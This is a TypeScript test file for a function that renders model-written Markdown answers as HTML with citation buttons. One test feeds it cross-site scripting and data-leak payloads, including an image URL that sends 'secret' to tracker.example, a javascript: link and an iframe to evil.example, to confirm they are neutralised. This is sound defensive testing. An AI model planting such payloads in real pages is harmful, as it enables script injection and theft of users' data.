// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderAnswer } from './answer-html';

function dom(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('renderAnswer', () => {
  it('renders Markdown and turns valid [n] markers into citation buttons', () => {
    const root = dom(renderAnswer('The queen lays **2000** eggs a day [1][2]. See also [7].', 2));
    expect(root.querySelector('strong')?.textContent).toBe('2000');
    const cites = [...root.querySelectorAll('button.cite')].map((b) => (b as HTMLButtonElement).dataset.cite);
    expect(cites).toEqual(['1', '2']);
    expect(root.textContent).toContain('[7]'); // beyond the passages given: left as text
  });

  it('never lets markup from the model run or load anything', () => {
    const evil = [
      '<script>window.pwned = 1</script>',
      '<img src="https://tracker.example/leak?q=secret" onerror="window.pwned = 1">',
      '<a href="javascript:alert(1)">click</a>',
      '<iframe src="https://evil.example"></iframe>',
      '![leak](https://tracker.example/p.png?d=secret)',
      '<div onclick="alert(1)">x</div>',
      '[ok](https://example.org/page)',
    ].join('\n\n');
    const html = renderAnswer(evil, 3);
    const root = dom(html);
    expect(root.querySelector('script, img, iframe')).toBeNull();
    expect(html).not.toMatch(/onerror|onclick|javascript:/i);
    const links = [...root.querySelectorAll('a')];
    // The <iframe> shows as the text the model wrote (its bare URL a plain link), never as a frame.
    expect(links.map((a) => a.getAttribute('href'))).toEqual([null, 'https://evil.example', 'https://example.org/page']);
    expect(links.every((a) => a.getAttribute('rel')?.includes('noopener'))).toBe(true);
  });

  it('leaves [n] inside code, code blocks and links untouched', () => {
    const root = dom(renderAnswer('Use `arr[1]` here [1].\n\n```\nx = [1, 2]\n```\n\nSee [the notes [2]](https://example.org/n).', 2));
    expect(root.querySelector('code')?.textContent).toBe('arr[1]');
    expect(root.querySelector('pre')?.textContent).toBe('x = [1, 2]\n');
    expect(root.querySelector('a')?.textContent).toBe('the notes [2]');
    expect(cites(root)).toEqual(['1']);
  });

  it('links grouped citations [1, 2], ranges [1-3] and runs [1][2], each number its own button', () => {
    expect(cites(dom(renderAnswer('A [1, 2]. B [1-3]. C [2][3]. D [1; 3].', 3)))).toEqual(['1', '2', '1', '2', '3', '2', '3', '1', '3']);
  });

  it('keeps numbers that are not among the passages given as plain text, never a link', () => {
    const root = dom(renderAnswer('A [1]. B [3]. C [7]. D [1, 3]. E [2-4].', [1, 2, 4]));
    expect(cites(root)).toEqual(['1', '1']);
    expect(root.textContent).toContain('B [3].');
    expect(root.textContent).toContain('C [7].');
    expect(root.textContent).toContain('E [2-4].');
    expect(root.querySelectorAll('a')).toHaveLength(0);
  });

  it('cites a passage whose document was deleted with a mark that opens nothing, not a button', () => {
    const root = dom(renderAnswer('Tides [1]. Bread [2]. Both [1, 2].', [1, 2], new Set([1])));
    expect(cites(root)).toEqual(['2', '2']);
    const marks = [...root.querySelectorAll<HTMLElement>('span.cite.deleted')];
    expect(marks.map((m) => m.dataset.cite)).toEqual(['1', '1']);
    expect(marks[0]?.title).toBe('[1] document deleted');
    expect(marks[0]?.textContent).toBe('1 (document deleted)'); // the number, and what a screen reader says
    expect(root.querySelector('button[data-cite="1"]')).toBeNull();
  });

  it('shows an unclosed raw-text tag as text instead of letting it swallow the rest of the answer', () => {
    for (const tag of ['iframe', 'style', 'script', 'textarea', 'title', 'xmp', 'noembed', 'noscript', 'plaintext']) {
      for (const answer of [`Before <${tag}> after [1].\n\n- the list stays [2]\n\n**bold**`, `<${tag}>\n\nAfter [1].\n\n- the list stays [2]\n\n**bold**`]) {
        const root = dom(renderAnswer(answer, 2));
        expect(root.textContent, answer).toContain(`<${tag}>`);
        expect(root.textContent, answer).toMatch(/after|After/);
        expect(root.querySelector('li')?.textContent, answer).toContain('the list stays');
        expect(root.querySelector('strong')?.textContent, answer).toBe('bold');
        expect(cites(root), answer).toEqual(['1', '2']);
        expect(root.querySelector(tag), answer).toBeNull();
      }
    }
    // A comment left open would hide everything after it too.
    expect(dom(renderAnswer('A <!-- note\n\nB [1]', 1)).textContent).toContain('B ');
  });

  it('shows the tag as written inside code, with no stand-in characters left', () => {
    const html = renderAnswer('Write `<script>` or\n\n```html\n<style>p{}</style>\n```\n\nand <iframe src="https://evil.example"> here', 1);
    const root = dom(html);
    expect(root.querySelector('code')?.textContent).toBe('<script>');
    expect(root.querySelector('pre')?.textContent).toBe('<style>p{}</style>\n');
    expect(root.textContent).toContain('<iframe src="https://evil.example">');
    expect(html).not.toContain('\uE000');
    expect(root.querySelector('iframe, style, script')).toBeNull();
    expect([...root.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual(['https://evil.example']);
  });
});

function cites(root: HTMLElement): string[] {
  return [...root.querySelectorAll('button.cite')].map((b) => (b as HTMLButtonElement).dataset.cite ?? '');
}
